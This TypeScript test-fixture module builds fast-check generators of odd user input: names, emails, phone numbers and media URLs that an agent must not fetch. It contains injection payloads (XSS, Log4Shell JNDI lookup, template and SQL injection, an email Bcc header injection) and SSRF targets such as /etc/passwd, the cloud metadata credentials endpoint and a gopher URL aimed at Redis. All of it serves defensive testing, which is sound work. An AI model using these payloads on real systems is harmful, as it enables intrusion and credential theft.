/** Values a person or a misconfigured bot really produces, for action inputs, payloads and configurations. */
import fc from 'fast-check'

export const LONG_TEXT = 'a'.repeat(100_000)

/** Names, titles and descriptions: empty, blank, controls, bidi overrides, scripts, markup, template syntax. */
export const oddText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom(
    ' ',
    '\n\t',
    'Ada\u0000Lovelace',
    '\u202Eevil.exe',
    '👩‍💻 Ada',
    'Zoë Ñúñez',
    '李小龙',
    'عربي',
    '<script>alert(1)</script>',
    '${jndi:ldap://x.example/a}',
    '{{7*7}}',
    "Robert'); DROP TABLE students;--",
    'x\u0301\u0301\u0301',
    LONG_TEXT,
  ),
)

/** What people type in an email field. */
export const ODD_EMAILS = [
  '',
  ' ',
  '@',
  'a@',
  '@b.com',
  'a@b',
  'a@@b.com',
  'a b@c.com',
  '"quoted name"@example.com',
  'ü@exämple.com',
  `${'x'.repeat(300)}@example.com`,
  'mailto:ada@example.com',
  '<ada@example.com>',
  'ada@example.com, bob@example.com',
  'ada@example.com\nBcc: eve@example.com',
  'ADA@EXAMPLE.COM ',
  'user_42@no-reply.bot-1.botpress.com',
  '+33 6 12 34 56 78',
  'none',
]

/** What people type in a phone field: every national and international form, and things that are not phones. */
export const ODD_PHONES = [
  '+33 6 12 34 56 78',
  '0612345678',
  '+1 (415) 555-0123',
  '+44 20 7946 0958 ext. 123',
  'tel:+14155550123',
  '00 33 6 12 34 56 78',
  '+999 123',
  '++33612345678',
  '+336123456789012345678901234567890',
  '٠٦١٢٣٤٥٦٧٨',
  '1-800-FLOWERS',
  '+',
  '',
  ' ',
  'call me maybe',
]

export const oddEmail = fc.oneof(fc.emailAddress(), fc.constantFrom(...ODD_EMAILS), fc.string({ maxLength: 40 }))
export const oddPhone = fc.oneof(fc.constantFrom(...ODD_PHONES), fc.stringMatching(/^\+?[0-9 ().-]{0,24}$/))

/** Media URLs that must never be fetched; the agent gets them as text. */
export const UNFETCHABLE_URLS = [
  'file:///etc/passwd',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'http://127.0.0.1/secret.png',
  'http://127.0.0.1:8080/admin',
  'http://[::1]/x.png',
  'http://[::]/x.png',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://10.0.0.1/internal.pdf',
  'http://192.168.1.1/router.png',
  'http://172.16.0.5/x.mp3',
  'http://0.0.0.0/x.png',
  'http://2130706433/x.png',
  'http://0x7f.1/x.png',
  'http://localhost/x.png',
  'http://app.localhost/x.png',
  'https://user:secret@media.example.test/photo.png',
  'ftp://files.example.com/report.pdf',
  'gopher://127.0.0.1:6379/_INFO',
  'javascript:alert(document.cookie)',
  'not a url',
  'http://',
  'http://[::1',
  '//evil.example/x.png',
]
